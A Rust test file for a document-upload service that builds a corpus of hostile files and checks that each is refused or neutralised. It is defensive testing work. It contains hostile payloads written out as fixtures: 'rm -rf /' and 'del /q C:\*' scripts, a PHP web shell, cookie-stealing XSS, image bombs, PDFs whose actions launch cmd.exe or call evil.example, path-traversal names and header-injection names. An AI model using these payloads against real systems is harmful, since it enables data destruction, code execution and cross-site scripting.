//! A corpus of hostile uploads (issue 7): executables, pages and scripts under a document's
//! name, polyglots, truncated and empty files, the size limit + 1, pixel and decompression
//! bombs, PDFs with scripts or actions, and hostile file names. Each is refused with a message
//! in Bahasa Indonesia and nothing stored, or stored and neutralised: served with its own image
//! or PDF type, `nosniff`, the strict CSP and a safe file name — never as a page.

use lopdf::{Document, Object, ObjectId, Stream, dictionary};
use serde_json::Value;

use crate::helpers::*;
use crate::perangkat::{Api, contoh, pdf_sk};

const BATAS: usize = 256 * 1024;

/// What must happen to an upload.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Harap {
    /// Refused with this status; nothing stored.
    Tolak(u16),
    /// Either refused or stored harmlessly (the server decides; both are safe).
    TolakAtauNetral,
    /// Stored (a real document), served harmlessly.
    Netral,
}

struct Kasus {
    apa: &'static str,
    nama: String,
    isi: Vec<u8>,
    harap: Harap,
}

fn k(apa: &'static str, nama: &str, isi: Vec<u8>, harap: Harap) -> Kasus {
    Kasus {
        apa,
        nama: nama.to_string(),
        isi,
        harap,
    }
}

/// The test SK with one change made to its catalog and page.
fn pdf_dengan(ubah: impl FnOnce(&mut Document, ObjectId, ObjectId)) -> Vec<u8> {
    let mut doc = Document::load_mem(&pdf_sk()).unwrap();
    let katalog = doc.trailer.get(b"Root").unwrap().as_reference().unwrap();
    let halaman = *doc.get_pages().values().next().unwrap();
    ubah(&mut doc, katalog, halaman);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// The test SK opening with the action `aksi` (`/OpenAction`).
fn pdf_aksi(aksi: lopdf::Dictionary) -> Vec<u8> {
    pdf_dengan(|d, kat, _| set(d, kat, "OpenAction", Object::Dictionary(aksi)))
}

fn set(doc: &mut Document, id: ObjectId, kunci: &str, nilai: Object) {
    doc.get_object_mut(id).unwrap().as_dict_mut().unwrap().set(kunci, nilai);
}

/// A PDF written by hand (a minimal, valid file with the given extra catalog entries), for
/// syntax lopdf would not write itself.
fn pdf_mentah(ekstra_katalog: &str) -> Vec<u8> {
    let objek = [
        format!("<< /Type /Catalog /Pages 2 0 R {ekstra_katalog} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>".to_string(),
        "<< /Type /Page /Parent 2 0 R >>".to_string(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut posisi = Vec::new();
    for (i, o) in objek.iter().enumerate() {
        posisi.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objek.len() + 1).as_bytes());
    for p in posisi {
        out.extend_from_slice(format!("{p:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objek.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn png_kecil() -> Vec<u8> {
    let img = image::RgbImage::from_pixel(4, 4, image::Rgb([200, 30, 30]));
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

fn jpeg_kecil() -> Vec<u8> {
    let img = image::RgbImage::from_pixel(8, 8, image::Rgb([10, 120, 30]));
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Jpeg).unwrap();
    out.into_inner()
}

fn crc32(b: &[u8]) -> u32 {
    let mut c = 0xFFFF_FFFFu32;
    for &x in b {
        c ^= u32::from(x);
        for _ in 0..8 {
            c = if c & 1 != 0 { (c >> 1) ^ 0xEDB8_8320 } else { c >> 1 };
        }
    }
    !c
}

fn potongan_png(jenis: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(jenis);
    out.extend_from_slice(data);
    let mut crc = jenis.to_vec();
    crc.extend_from_slice(data);
    out.extend_from_slice(&crc32(&crc).to_be_bytes());
    out
}

/// A PNG whose header promises `lebar`×`tinggi` RGBA pixels, with a tiny (stored, empty-row)
/// zlib body: decoding it would need the promised memory.
fn png_bom(lebar: u32, tinggi: u32) -> Vec<u8> {
    let mut ihdr = lebar.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&tinggi.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(potongan_png(b"IHDR", &ihdr));
    // zlib stream of one stored block holding a single filter byte.
    out.extend(potongan_png(
        b"IDAT",
        &[0x78, 0x01, 0x01, 0x01, 0x00, 0xFE, 0xFF, 0x00, 0x00, 0x01, 0x00, 0x01],
    ));
    out.extend(potongan_png(b"IEND", &[]));
    out
}

/// A PNG with a text chunk holding a page.
fn png_dengan_teks(teks: &str) -> Vec<u8> {
    let asli = png_kecil();
    let mut data = b"Comment\0".to_vec();
    data.extend_from_slice(teks.as_bytes());
    let mut out = asli[..33].to_vec(); // signature + IHDR
    out.extend(potongan_png(b"tEXt", &data));
    out.extend_from_slice(&asli[33..]);
    out
}

/// A JPEG whose frame header claims 65,000 × 65,000 pixels.
fn jpeg_bom() -> Vec<u8> {
    let mut b = jpeg_kecil();
    let sof = b.windows(2).position(|w| w == [0xFF, 0xC0]).expect("baseline SOF0");
    b[sof + 5..sof + 7].copy_from_slice(&65_000u16.to_be_bytes());
    b[sof + 7..sof + 9].copy_from_slice(&65_000u16.to_be_bytes());
    b
}

fn jpeg_dengan_komentar(teks: &str) -> Vec<u8> {
    let asli = jpeg_kecil();
    let mut out = asli[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xFE]);
    out.extend_from_slice(&((teks.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(teks.as_bytes());
    out.extend_from_slice(&asli[2..]);
    out
}

fn zip_dengan(nama: &str, isi: &[u8]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut z = zip::ZipWriter::new(&mut out);
    z.start_file(nama, zip::write::SimpleFileOptions::default()).unwrap();
    std::io::Write::write_all(&mut z, isi).unwrap();
    z.finish().unwrap();
    out.into_inner()
}

const HTML: &str = "<!doctype html><html><body><script>alert(document.cookie)</script></body></html>";
const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>";

fn korpus() -> Vec<Kasus> {
    use Harap::*;
    let sk = pdf_sk();
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    elf.resize(4096, 0);
    let mut pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec();
    pe.extend_from_slice(b"This program cannot be run in DOS mode.");
    pe.resize(2048, 0);
    let mut pdf_html = sk.clone();
    pdf_html.extend_from_slice(HTML.as_bytes());
    let mut html_pdf = HTML.as_bytes().to_vec();
    html_pdf.extend_from_slice(&sk);
    let mut pdf_zip = sk.clone();
    pdf_zip.extend(zip_dengan("evil.exe", &elf));
    let mut gif_js = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(1)//".to_vec();
    gif_js.resize(64, 0);
    let mut jpeg_potong = jpeg_kecil();
    jpeg_potong.truncate(40);
    let mut png_potong = png_kecil();
    png_potong.truncate(40);
    let mut pdf_potong = sk.clone();
    pdf_potong.truncate(sk.len() / 2);
    let mut besar = sk.clone();
    besar.resize(BATAS + 1, b' ');
    let mut pas = sk.clone();
    pas.extend_from_slice(b"\n%");
    pas.resize(BATAS, b' ');

    vec![
        // Empty, tiny, truncated.
        k("zero bytes", "sk.pdf", vec![], Tolak(422)),
        k("one byte", "sk.pdf", b"%".to_vec(), Tolak(415)),
        k("PDF header only", "sk.pdf", b"%PDF-1.7\n".to_vec(), Tolak(422)),
        k("PDF cut in half", "sk.pdf", pdf_potong, Tolak(422)),
        k("JPEG cut after header", "sk.jpg", jpeg_potong, Tolak(422)),
        k("PNG cut after header", "sk.png", png_potong, Tolak(422)),
        // Executables and scripts under a document's name.
        k("ELF executable as .pdf", "sk.pdf", elf.clone(), Tolak(415)),
        k("Windows executable as .jpg", "sk.jpg", pe.clone(), Tolak(415)),
        k("Windows executable as .exe", "sk.exe", pe, Tolak(415)),
        k(
            "shell script as .pdf",
            "sk.pdf",
            b"#!/bin/sh\nrm -rf /\n".to_vec(),
            Tolak(415),
        ),
        k(
            "PHP as .jpg",
            "sk.jpg",
            b"<?php system($_GET['c']); ?>".to_vec(),
            Tolak(415),
        ),
        k(
            "JavaScript as .png",
            "sk.png",
            b"alert(document.domain)".to_vec(),
            Tolak(415),
        ),
        k(
            "batch file as .pdf",
            "sk.pdf",
            b"@echo off\r\ndel /q C:\\*\r\n".to_vec(),
            Tolak(415),
        ),
        // Pages and vector images.
        k("HTML as .pdf", "sk.pdf", HTML.as_bytes().to_vec(), Tolak(415)),
        k("HTML as .jpg", "sk.jpg", HTML.as_bytes().to_vec(), Tolak(415)),
        k("HTML as .html", "sk.html", HTML.as_bytes().to_vec(), Tolak(415)),
        k("SVG with script as .png", "sk.png", SVG.as_bytes().to_vec(), Tolak(415)),
        k("SVG as .svg", "sk.svg", SVG.as_bytes().to_vec(), Tolak(415)),
        k(
            "XHTML as .pdf",
            "sk.pdf",
            b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>"
                .to_vec(),
            Tolak(415),
        ),
        k(
            "UTF-8 BOM + HTML",
            "sk.pdf",
            [b"\xEF\xBB\xBF".as_slice(), HTML.as_bytes()].concat(),
            Tolak(415),
        ),
        // Other formats.
        k("ZIP as .pdf", "sk.pdf", zip_dengan("sk.pdf", &sk), Tolak(415)),
        k(
            "DOCX as .pdf",
            "sk.pdf",
            zip_dengan("word/document.xml", b"<w:document/>"),
            Tolak(415),
        ),
        k("GIF/JavaScript polyglot as .jpg", "sk.jpg", gif_js, Tolak(415)),
        k(
            "BMP as .png",
            "sk.png",
            [b"BM".as_slice(), &[0u8; 60]].concat(),
            Tolak(415),
        ),
        k(
            "TIFF as .jpg",
            "sk.jpg",
            [b"II*\0".as_slice(), &[0u8; 60]].concat(),
            Tolak(415),
        ),
        k(
            "WebP as .png",
            "sk.png",
            [b"RIFF\x1a\0\0\0WEBPVP8 ".as_slice(), &[0u8; 20]].concat(),
            Tolak(415),
        ),
        // Polyglots.
        k("HTML then PDF", "sk.pdf", html_pdf, Tolak(415)),
        k("PDF then HTML", "sk.pdf", pdf_html, TolakAtauNetral),
        k("PDF then ZIP with an executable", "sk.pdf", pdf_zip, TolakAtauNetral),
        k(
            "JPEG with a page in its comment",
            "sk.jpg",
            jpeg_dengan_komentar(HTML),
            Netral,
        ),
        k(
            "PNG with a page in a text chunk",
            "sk.png",
            png_dengan_teks(HTML),
            Netral,
        ),
        // Bombs.
        k(
            "PNG pixel bomb 100000×100000",
            "sk.png",
            png_bom(100_000, 100_000),
            Tolak(422),
        ),
        k(
            "PNG decompression bomb 12000×12000 RGBA",
            "sk.png",
            png_bom(12_000, 12_000),
            Tolak(422),
        ),
        k("JPEG pixel bomb 65000×65000", "sk.jpg", jpeg_bom(), Tolak(422)),
        // Size.
        k("size limit + 1", "sk.pdf", besar, Tolak(413)),
        k("exactly the size limit", "sk.pdf", pas, TolakAtauNetral),
        // PDFs with active content.
        k(
            "PDF with OpenAction JavaScript",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }),
            Tolak(422),
        ),
        k(
            "PDF with a Launch action",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") }),
            Tolak(422),
        ),
        k(
            "PDF with a JavaScript name tree",
            "sk.pdf",
            pdf_dengan(|d, kat, _| {
                let js =
                    d.add_object(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") });
                set(
                    d,
                    kat,
                    "Names",
                    Object::Dictionary(
                        dictionary! { "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("a"), js.into()] } },
                    ),
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with an embedded executable",
            "sk.pdf",
            pdf_dengan(|d, kat, _| {
                let f = d.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ...".to_vec()));
                let spec = d.add_object(dictionary! { "Type" => "Filespec", "F" => Object::string_literal("a.exe"), "EF" => dictionary! { "F" => f } });
                set(
                    d,
                    kat,
                    "Names",
                    Object::Dictionary(
                        dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("a.exe"), spec.into()] } },
                    ),
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with page open action (AA)",
            "sk.pdf",
            pdf_dengan(|d, _, hal| {
                set(
                    d,
                    hal,
                    "AA",
                    Object::Dictionary(
                        dictionary! { "O" => dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("x") } },
                    ),
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with SubmitForm",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("http://evil.example/") }),
            Tolak(422),
        ),
        // Issue 15, point 5: every automatic action that leaves the document.
        k(
            "PDF opening an address (OpenAction URI)",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") }),
            Tolak(422),
        ),
        k(
            "PDF with an OpenAction GoTo then URI (/Next)",
            "sk.pdf",
            pdf_aksi(dictionary! {
                "S" => "GoTo",
                "D" => Object::Array(vec![]),
                "Next" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") },
            }),
            Tolak(422),
        ),
        k(
            "PDF with an OpenAction URI by reference",
            "sk.pdf",
            pdf_dengan(|d, kat, _| {
                let a =
                    d.add_object(dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") });
                set(d, kat, "OpenAction", a.into())
            }),
            Tolak(422),
        ),
        k(
            "PDF with an OpenAction GoToR",
            "sk.pdf",
            pdf_aksi(
                dictionary! { "S" => "GoToR", "F" => Object::string_literal("\\\\evil.example\\x.pdf"), "D" => Object::Array(vec![]) },
            ),
            Tolak(422),
        ),
        k(
            "PDF with an OpenAction GoToE",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "GoToE", "D" => Object::Array(vec![]) }),
            Tolak(422),
        ),
        k(
            "PDF with an OpenAction ImportData",
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "ImportData", "F" => Object::string_literal("http://evil.example/d.fdf") }),
            Tolak(422),
        ),
        k(
            "PDF with a page AA opening an address",
            "sk.pdf",
            pdf_dengan(|d, _, hal| {
                set(
                    d,
                    hal,
                    "AA",
                    Object::Dictionary(
                        dictionary! { "O" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") } },
                    ),
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with an annotation AA opening an address",
            "sk.pdf",
            pdf_dengan(|d, _, hal| {
                let aa = d.add_object(dictionary! { "E" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") } });
                let annot = d.add_object(dictionary! {
                    "Type" => "Annot", "Subtype" => "Widget",
                    "Rect" => vec![0.into(), 0.into(), 595.into(), 842.into()],
                    "AA" => aa,
                });
                set(d, hal, "Annots", Object::Array(vec![annot.into()]))
            }),
            Tolak(422),
        ),
        k(
            "PDF with a link a person clicks (annotation /A URI)",
            "sk.pdf",
            pdf_dengan(|d, _, hal| {
                let annot = d.add_object(dictionary! {
                    "Type" => "Annot", "Subtype" => "Link",
                    "Rect" => vec![0.into(), 0.into(), 100.into(), 20.into()],
                    "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("https://jdih.balangankab.go.id/") },
                });
                set(d, hal, "Annots", Object::Array(vec![annot.into()]))
            }),
            Netral,
        ),
        k(
            "PDF with JavaScript nested 40 arrays deep",
            "sk.pdf",
            pdf_dengan(|d, kat, _| {
                let mut o = Object::Dictionary(
                    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") },
                );
                for _ in 0..40 {
                    o = Object::Array(vec![o]);
                }
                set(d, kat, "Sipkatdes", o)
            }),
            Tolak(422),
        ),
        k(
            "encrypted PDF",
            "sk.pdf",
            pdf_dengan(|d, _, _| {
                d.trailer.set(
                    "Encrypt",
                    dictionary! {
                        "Filter" => "Standard", "V" => 1, "R" => 2, "P" => -4,
                        "O" => Object::string_literal(vec![0u8; 32]), "U" => Object::string_literal(vec![0u8; 32]),
                    },
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with an XFA form",
            "sk.pdf",
            pdf_dengan(|d, kat, _| {
                set(
                    d,
                    kat,
                    "AcroForm",
                    Object::Dictionary(
                        dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => Object::string_literal("<xdp/>") },
                    ),
                )
            }),
            Tolak(422),
        ),
        k(
            "PDF with an escaped /J#61vaScript name",
            "sk.pdf",
            pdf_mentah("/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"),
            Tolak(422),
        ),
        k("hand-written PDF, no active content", "sk.pdf", pdf_mentah(""), Netral),
        k(
            "PDF with no pages",
            "sk.pdf",
            pdf_dengan(|d, _, hal| {
                let pages = d
                    .get_object(hal)
                    .unwrap()
                    .as_dict()
                    .unwrap()
                    .get(b"Parent")
                    .unwrap()
                    .as_reference()
                    .unwrap();
                set(d, pages, "Kids", Object::Array(vec![]));
                set(d, pages, "Count", Object::Integer(0));
            }),
            Tolak(422),
        ),
        // Hostile names on a good file: stored, the name never becomes a path or a header.
        k("path traversal name", "../../../../etc/passwd.pdf", sk.clone(), Netral),
        k(
            "Windows path name",
            "..\\..\\windows\\system32\\sk.pdf",
            sk.clone(),
            Netral,
        ),
        k(
            "name with CR/LF header injection",
            "sk\r\nContent-Type: text/html\r\n\r\n<script>.pdf",
            sk.clone(),
            TolakAtauNetral,
        ),
        k("name with NUL", "sk\0.html.pdf", sk.clone(), TolakAtauNetral),
        k("right-to-left override name", "SK-\u{202E}fdp.exe", sk.clone(), Netral),
        k(
            "very long name",
            &format!("{}.pdf", "a".repeat(5000)),
            sk.clone(),
            Netral,
        ),
        k(
            "name with quotes and script",
            "\"><script>alert(1)</script>.pdf",
            sk.clone(),
            Netral,
        ),
        k("name .htaccess", ".htaccess", sk.clone(), Netral),
        k("reserved Windows name", "CON.pdf", sk, Netral),
        k("good PNG named .pdf", "sk.pdf", png_kecil(), Netral),
    ]
}

async fn jumlah_dokumen(app: &TestApp) -> i64 {
    app.jumlah("SELECT COUNT(*) FROM dokumen").await
}

fn berkas_tersimpan(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    fn jalan(d: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        if let Ok(rd) = std::fs::read_dir(d) {
            for e in rd.flatten() {
                let p = e.path();
                if p.is_dir() { jalan(&p, out) } else { out.push(p) }
            }
        }
    }
    let mut v = Vec::new();
    jalan(dir, &mut v);
    v
}

#[tokio::test]
async fn korpus_unggahan_berbahaya_ditolak_atau_dinetralkan() {
    let app = spawn_app_dengan(|c| c.batas_unggah = BATAS).await;
    app.pengguna("op.a", "operator", DESA_A).await;
    let api = Api::baru(&app, "op.a").await;
    let id = api
        .buat(DESA_A, &contoh("6311021403850001", "Ahmad Fauzi", "kaur_keuangan"))
        .await;
    let korpus = korpus();
    assert!(korpus.len() >= 40, "the corpus has {} files", korpus.len());
    let mut tersimpan = Vec::new();
    let mut salah = Vec::new();
    for kasus in &korpus {
        let sebelum = jumlah_dokumen(&app).await;
        let r = api
            .unggah(id, kasus.isi.clone(), &kasus.nama, Some("sk_pengangkatan"))
            .await;
        let status = r.status().as_u16();
        let v: Value = r
            .json()
            .await
            .unwrap_or_else(|e| panic!("{}: not JSON ({e})", kasus.apa));
        let setelah = jumlah_dokumen(&app).await;
        assert!(status < 500, "{}: {status} {v}", kasus.apa);
        let ditolak = status != 201;
        if ditolak {
            let pesan = v["error"]["pesan"].as_str().unwrap_or_default();
            assert!(
                !pesan.is_empty() && (pesan.contains("erkas") || v["error"]["field"]["berkas"].is_string()),
                "{}: message must name the file field: {v}",
                kasus.apa
            );
            assert_eq!(setelah, sebelum, "{}: refused but stored", kasus.apa);
        }
        // Every case is tried; the mismatches are reported together.
        let benar = match kasus.harap {
            Harap::Tolak(s) => status == s,
            Harap::Netral => status == 201,
            Harap::TolakAtauNetral => matches!(status, 201 | 413 | 415 | 422),
        };
        if !benar {
            salah.push(format!("{}: {status} {v}", kasus.apa));
        }
        if !ditolak {
            assert_eq!(setelah, sebelum + 1, "{}", kasus.apa);
            tersimpan.push((kasus, v["id"].as_i64().unwrap()));
        }
    }
    assert!(salah.is_empty(), "not as expected:\n{}", salah.join("\n"));
    // Everything stored is served as what it is, never as a page, under a safe name.
    for (kasus, dok) in &tersimpan {
        for path in [format!("/api/v1/dokumen/{dok}")] {
            let r = api.get(&path).await;
            assert_eq!(r.status(), 200, "{}", kasus.apa);
            let h = r.headers();
            let jenis = h["content-type"].to_str().unwrap();
            assert!(
                ["application/pdf", "image/jpeg", "image/png"].contains(&jenis),
                "{}: served as {jenis}",
                kasus.apa
            );
            assert_eq!(h["x-content-type-options"], "nosniff", "{}", kasus.apa);
            assert!(
                h["content-security-policy"]
                    .to_str()
                    .unwrap()
                    .contains("default-src 'none'")
            );
            let disp = h["content-disposition"].to_str().unwrap();
            let nama = disp
                .split("filename=\"")
                .nth(1)
                .and_then(|s| s.strip_suffix('"'))
                .unwrap_or_else(|| panic!("{}: {disp}", kasus.apa));
            assert!(nama_aman(nama), "{}: unsafe download name {nama:?}", kasus.apa);
            assert!(!nama.starts_with('.') && nama.len() <= 70, "{}: {nama:?}", kasus.apa);
        }
    }
    // The record page lists the stored names as text, with control and direction characters gone.
    let names: Vec<String> = sipkatdes::read!(app.db, c => {
        sqlx::query_scalar("SELECT nama_asli FROM dokumen").fetch_all(c).await.unwrap()
    });
    for n in &names {
        assert!(
            !n.chars()
                .any(|c| c.is_control() || ('\u{202A}'..='\u{202E}').contains(&c)),
            "{n:?}"
        );
        assert!(n.chars().count() <= 200);
    }
    let c = app.masuk_ok("op.a").await;
    let html = app.html(&c, &format!("/perangkat/{id}")).await;
    let doc = scraper::Html::parse_document(&html);
    let skrip = scraper::Selector::parse("script").unwrap();
    for s in doc.select(&skrip) {
        assert!(s.value().attr("src").is_some(), "inline script on the record page");
    }
    // Files live only under the data dir's store, each named by its SHA-256.
    for p in berkas_tersimpan(app.data_dir()) {
        let rel = p.strip_prefix(app.data_dir()).unwrap().to_string_lossy().to_string();
        assert!(
            rel.starts_with("sipkatdes.db") || rel.starts_with("berkas/"),
            "unexpected file {rel}"
        );
        if let Some(nama) = rel.strip_prefix("berkas/") {
            let akhir = nama.rsplit('/').next().unwrap();
            assert!(
                akhir.len() == 64 && akhir.chars().all(|c| c.is_ascii_hexdigit()),
                "{rel}"
            );
        }
    }
}

/// The same refusals through the operator's form (multipart with the CSRF token).
#[tokio::test]
async fn formulir_unggah_menolak_halaman_yang_menyamar() {
    let app = spawn_app_dengan(|c| c.batas_unggah = BATAS).await;
    app.pengguna("op.a", "operator", DESA_A).await;
    let api = Api::baru(&app, "op.a").await;
    let id = api
        .buat(DESA_A, &contoh("6311021403850001", "Ahmad Fauzi", "kaur_keuangan"))
        .await;
    let c = app.masuk_ok("op.a").await;
    let csrf = app.csrf(&c, &format!("/perangkat/{id}")).await;
    for (nama, isi, status) in [
        ("sk.pdf", HTML.as_bytes().to_vec(), 415u16),
        ("sk.svg", SVG.as_bytes().to_vec(), 415),
        (
            "sk.pdf",
            pdf_aksi(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }),
            422,
        ),
    ] {
        let form = reqwest::multipart::Form::new()
            .text("_csrf", csrf.clone())
            .text("jenis", "sk_pengangkatan")
            .part("berkas", reqwest::multipart::Part::bytes(isi).file_name(nama));
        let r = c
            .post(app.url(&format!("/perangkat/{id}/dokumen")))
            .multipart(form)
            .send()
            .await
            .unwrap();
        // The form answers with the record page again (post/redirect/get), saying why; the
        // refusal's status travels in a header for clients.
        assert_eq!(r.status(), 303, "{nama}");
        assert_eq!(r.headers()["x-sipkatdes-status"], status.to_string().as_str(), "{nama}");
        let html = app.html(&c, &format!("/perangkat/{id}")).await;
        assert!(html.contains("Dokumen tidak diterima"), "{nama}: {html}");
    }
    assert_eq!(jumlah_dokumen(&app).await, 0);
}

/// A download name that is neither a path nor able to break out of its header: `[A-Za-z0-9_.-]+`.
fn nama_aman(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
}
